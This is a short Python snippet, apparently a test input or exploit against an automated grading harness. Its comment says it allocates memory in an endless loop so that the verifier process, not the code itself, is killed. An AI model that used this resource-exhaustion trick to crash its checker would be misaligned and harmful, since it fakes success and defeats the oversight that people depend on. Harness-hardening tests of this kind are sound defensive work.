# Takes all memory there is, so that the verifier might be the one to be killed.
blocks = []
while True:
    blocks.append(bytearray(1 << 24))
